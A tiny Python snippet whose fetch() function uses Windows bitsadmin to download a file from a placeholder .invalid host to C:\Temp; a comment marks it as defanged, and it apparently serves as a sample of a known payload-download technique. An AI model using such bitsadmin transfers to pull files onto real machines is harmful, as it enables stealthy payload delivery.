import subprocess

def fetch():
    # defanged: URL under .invalid
    subprocess.call(["bitsadmin", "/transfer", "job1", "https://cdn.example.invalid/y.txt", "C:\\Temp\\y.txt"])
